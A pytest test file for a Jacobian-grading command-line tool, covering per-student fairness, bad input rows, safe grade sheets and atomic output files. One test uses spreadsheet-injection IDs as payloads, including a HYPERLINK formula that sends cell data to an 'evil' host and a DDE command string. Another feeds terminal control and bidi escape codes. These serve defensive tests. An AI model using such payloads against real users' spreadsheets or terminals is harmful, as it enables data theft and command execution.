"""A class's answer sheet is other people's data (issue 22): one student's answer never changes another's
verdict, one bad row never stops the run, and the grade sheet is safe to open in a spreadsheet or a
terminal. Output files are whole or absent.

The expected verdicts are independent of jac: f(x, y) = (x² + y, 2xy) has J = [[2x, 1], [2y, 2x]], and every
"right" answer below is J written with an identity (cosh² − sinh² = 1, sin² + cos² = 1) that holds everywhere.
"""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import subprocess

import pytest
from conftest import JAC
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

RIGHT = "[[2x, 1], [2y, 2x]]"


def _sheet(stdout: str) -> dict[str, dict]:
    return {r["id"]: r for r in csv.DictReader(io.StringIO(stdout))}


def _write(path, rows: list[str], header: str = "id,answer") -> str:
    path.write_text(header + "\n" + "\n".join(rows) + "\n", encoding="utf-8")
    return str(path)


# ---------------------------------------------------------------------------
# §2 one row never stops or changes the others

def test_bad_rows_are_rows_and_the_rest_is_graded(run, tmp_path):
    rows = [f's01,"{RIGHT}"',
            f's01,"{RIGHT}"',  # a duplicate id: both graded, both flagged
            "s02,[[2x, 1], [2y, 2x]]",  # unquoted commas
            f',"{RIGHT}"',  # no id
            's03,"' + "x + " * 245_000 + 'x"',  # 980,000 characters (past the csv module's field limit)
            f's04,"{RIGHT}"',
            's05,"[[2x, 1], [2y, 2y]]"']  # wrong
    r = run("check", "samples/f.yaml", "--answers", _write(tmp_path / "a.csv", rows), "--format", "csv")
    assert r.exit_code == 1, r.stderr  # not every answer passed; the run itself went to the end
    lines = list(csv.DictReader(io.StringIO(r.stdout)))
    assert [row["id"] for row in lines] == ["s01", "s01", "s02", "(no id: " + str(tmp_path / "a.csv") + ":5)", "s03",
                                            "s04", "s05"]
    by_line = lines
    assert by_line[0]["pass"] == by_line[1]["pass"] == "true"
    assert "duplicate id: also at" in by_line[0]["flags"] and "duplicate id" in by_line[1]["flags"]
    assert "quote an answer that holds commas" in by_line[2]["error"]
    assert "no id" in by_line[3]["error"]
    assert "980,00" in by_line[4]["error"] and "limit" in by_line[4]["error"]
    assert by_line[5]["pass"] == "true" and by_line[6]["pass"] == "false"
    assert "7 answers: 3 passed, 1 failed, 3 unreadable, 2 flagged" in r.stderr


def test_a_broken_json_line_is_one_row(run, tmp_path):
    path = tmp_path / "a.jsonl"
    path.write_text(json.dumps({"id": "a", "answer": RIGHT}) + "\n{not json\n"
                    + json.dumps({"id": "b", "answer": [["2x", "1"], ["2y", "2x"]]}) + "\n")
    r = run("check", "samples/f.yaml", "--answers", path, "--format", "json")
    objects = [json.loads(line) for line in r.stdout.splitlines()]
    assert [o["pass"] for o in objects] == [True, False, True]
    assert "not JSON" in objects[1]["error"]["message"] and objects[1]["error"]["exit_code"] == 2


def test_cancellation_never_fails_a_right_answer_in_a_class(run, tmp_path):
    """Eight right answers 2y + k(cosh²y − sinh²y − 1): once the class had spent the shared simplify cap they
    were sampled, and at y ≈ 196 cosh² − sinh² cancels every digit, even at 100 digits. Each is right."""
    hogs = [f'e{k},"[[2x*(sin(x)^2 + cos(x)^2)^{k}, 1 + 0*(tan(x)^2 + 1 - sec(x)^2)], [2y, 2x]]"' for k in range(12)]
    cosh = [f's{k},"[[2x, 1], [2y + {k}*(cosh(y)^2 - sinh(y)^2 - 1), 2x]]"' for k in (3, 7, 11, 50, 1000, 2, 5, 9)]
    r = run("check", "samples/f.yaml", "--answers", _write(tmp_path / "a.csv", hogs + cosh), "--format", "csv")
    sheet = _sheet(r.stdout)
    assert all(row["pass"] == "true" for row in sheet.values()), [row for row in sheet.values() if row["pass"] != "true"]


def test_the_sampler_confirms_a_difference_before_it_fails_anyone():
    """Directly: at y = 196 both 50 and 100 digits say 2y + 3(cosh²y − sinh²y − 1) = −3; certified evaluation
    says 2y. A real difference (cosh² − sinh² is 1, not 0) is still caught."""
    import sympy as sp

    from jaccli.calculus.sampling import Sampler

    x, y = sp.symbols("x y")
    sampler = Sampler([x, y])
    right = sampler.compare(2 * y + 3 * (sp.cosh(y) ** 2 - sp.sinh(y) ** 2 - 1), 2 * y, 1e-9, 0)
    assert right.ok and right.points >= 6
    wrong = sampler.compare(2 * y + sp.cosh(y) ** 2 - sp.sinh(y) ** 2, 2 * y, 1e-9, 0)
    assert not wrong.ok and abs(float(wrong.answer) - float(wrong.expected) - 1) < 1e-9


def test_thousands_of_right_answers_with_a_short_budget(run, tmp_path):
    rows = [f's{k:04d},"[[2x, 1], [2y, 2x + cosh(y)^2 - sinh(y)^2 - 1]]"' for k in range(2000)]
    r = run("check", "samples/f.yaml", "--answers", _write(tmp_path / "a.csv", rows), "--format", "csv",
            "--timeout", "1")
    assert r.exit_code == 0, r.stderr
    assert set(row["pass"] for row in _sheet(r.stdout).values()) == {"true"}


# the answers a class mixes: right ones in several forms, wrong ones, and expensive ones
ANSWERS = {
    "right": RIGHT,
    "right_cosh": "[[2x, 1], [2y + 7*(cosh(y)^2 - sinh(y)^2 - 1), 2x]]",
    "right_trig": "[[2x*(sin(x*y)^2 + cos(x*y)^2), 1], [2y, 2x]]",
    "right_exp": "[[2x, exp(log(1 + x^2)) - x^2], [2y, 2x]]",
    "transpose": "[[2x, 2y], [1, 2x]]",
    "sign": "[[2x, 1], [2y, -2x]]",
    "value_cosh": "[[2x, 1], [2y + cosh(y)^2 - sinh(y)^2, 2x]]",
    "unreadable": "[[2x, 1], [2y, 2x",
    "expensive": "[[2x + " + " + ".join(f"sin({k}*x*y)^2 + cos({k}*x*y)^2 - 1" for k in range(1, 60)) + ", 1], [2y, 2x]]",
}


def _verdicts(run, tmp_path, names: list[str], tag: str) -> list[str]:
    rows = [f'{k}-{name},"{ANSWERS[name]}"' for k, name in enumerate(names)]
    # the default budget: the property is about order and company, not about how loaded the machine is
    r = run("check", "samples/f.yaml", "--answers", _write(tmp_path / f"{tag}.csv", rows), "--format", "csv")
    sheet = list(csv.DictReader(io.StringIO(r.stdout)))
    return [f'{row["pass"]}/{row["wrong"]}/{bool(row["error"])}' for row in sheet]


@settings(max_examples=8, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.sampled_from(sorted(ANSWERS)), min_size=2, max_size=6))
def test_a_class_grades_each_answer_as_if_it_were_alone(run, tmp_path, names):
    """The fairness property: the verdicts of a class equal the verdicts of its answers graded one by one,
    whatever the order and whatever expensive answers are mixed in."""
    together = _verdicts(run, tmp_path, names, "class")
    alone = [_verdicts(run, tmp_path, [name], f"alone{k}")[0] for k, name in enumerate(names)]
    assert together == alone
    for name, verdict in zip(names, together):
        assert verdict.split("/")[0] == ("true" if name.startswith(("right", "expensive")) else "false"), (name, verdict)


# ---------------------------------------------------------------------------
# §3 the grade sheet is safe to open

def test_formula_cells_are_neutralised(run, tmp_path):
    ids = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\tTAB", "plain"]
    rows = ['"' + i.replace('"', '""') + f'","{RIGHT}"' for i in ids]
    r = run("check", "samples/f.yaml", "--answers", _write(tmp_path / "a.csv", rows), "--format", "csv")
    cells = [row["id"] for row in csv.DictReader(io.StringIO(r.stdout))]
    assert cells == ["'" + ids[0], "'" + ids[1], "'@SUM(1)", "'-2+3", "\\tTAB", "plain"]  # a tab is an escape
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


CONTROL_IDS = ["\x1b[2J\x1b[31mred\x1b]0;title\x07", "cr\rfake: PASS", "nul\x00x", "bidi\u202eevil", "[bold]rich[/]"]


@pytest.mark.parametrize("fmt", ["table", "plain", "csv"])
def test_control_codes_never_reach_the_terminal_raw(run, tmp_path, fmt):
    path = tmp_path / "a.jsonl"
    path.write_text("".join(json.dumps({"id": i, "answer": RIGHT}) + "\n" for i in CONTROL_IDS))
    r = run("check", "samples/f.yaml", "--answers", path, "--format", fmt)
    for bad in ("\x1b", "\x07", "\x00", "\r", "\u202e"):
        assert bad not in r.stdout and bad not in r.stderr, (fmt, repr(bad))
    assert "\\x1b[2J" in r.stdout and "\\u202e" in r.stdout
    assert "fake: PASS" not in [line.strip() for line in r.stdout.splitlines()]
    if fmt != "csv":
        assert "[bold]rich[/]" in r.stdout  # shown as typed, not as rich markup


def test_json_keeps_ids_exactly_and_well_formed(run, tmp_path):
    path = tmp_path / "a.jsonl"
    path.write_text("".join(json.dumps({"id": i, "answer": RIGHT}) + "\n" for i in CONTROL_IDS))
    r = run("check", "samples/f.yaml", "--answers", path, "--format", "json")
    assert [json.loads(line)["id"] for line in r.stdout.splitlines()] == [i.replace("\r", "\r") for i in CONTROL_IDS]


def test_a_roster_with_formula_ids_gives_a_safe_key_that_still_grades(run, tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text('id\n"=1+1"\n-2+3\n')
    key = tmp_path / "key.csv"
    assert run("exercise", "--kind", "jacobian", "--seed", "1", "--count", "1", "--students", roster, "--key",
               key).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(key.read_text())))
    assert [r["id"] for r in rows] == ["'=1+1", "'-2+3"]
    answers = tmp_path / "answers.csv"
    answers.write_text("id,answer\n" + "".join(f'"{r["id"][1:]}","{r["answer"].lstrip(chr(39))}"\n' for r in rows))
    graded = run("check", "--key", key, "--answers", answers, "--format", "json")
    assert graded.exit_code == 0, graded.output
    assert [json.loads(line)["pass"] for line in graded.stdout.splitlines()] == [True, True]


# ---------------------------------------------------------------------------
# §5 output files are whole or absent

def _limited(kilobytes: int):
    def limit():
        resource.setrlimit(resource.RLIMIT_FSIZE, (kilobytes * 1024, kilobytes * 1024))
    return limit


@pytest.fixture
def many_points(tmp_path):
    path = tmp_path / "many.csv"
    path.write_text("r,theta,phi\n" + "".join(f"{1 + k % 7 / 10},{0.1 + k % 5 / 10},{k % 3 / 10}\n"
                                              for k in range(60_000)))
    return path


@pytest.mark.parametrize("name", ["J.csv", "J.json", "J.npy", "J.parquet"])
def test_a_file_size_limit_leaves_the_old_file(tmp_path, many_points, name):
    target = tmp_path / name
    target.write_bytes(b"the old file\n")
    fmt = {".json": ["--format", "json"], ".csv": ["--format", "csv"]}.get(target.suffix, [])
    r = subprocess.run([*JAC, "jacobian", "samples/spherical.yaml", "--points", str(many_points), *fmt, "-o",
                        str(target)], capture_output=True, text=True, preexec_fn=_limited(4), timeout=120)
    assert r.returncode == 6, r.stderr
    assert f"{target} is as it was" in r.stderr
    assert target.read_bytes() == b"the old file\n"
    assert [p.name for p in tmp_path.iterdir() if ".part" in p.name] == []


def test_a_picture_that_does_not_fit_is_not_written(tmp_path):
    target = tmp_path / "big.pdf"
    r = subprocess.run([*JAC, "plot", "samples/polar.yaml", "--at", "1,pi/4", "-o", str(target)],
                       capture_output=True, text=True, preexec_fn=_limited(8), timeout=120)
    assert r.returncode == 6, r.stderr
    assert "was not created" in r.stderr and not target.exists()
    assert "internal error" not in r.stderr


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="no /dev/full")
def test_a_full_disk_is_exit_6():
    r = subprocess.run([*JAC, "compose", "samples/f.yaml", "samples/g.yaml", "--at", "1,2", "-o", "/dev/full"],
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 6 and "No space left on device" in r.stderr, r.stderr
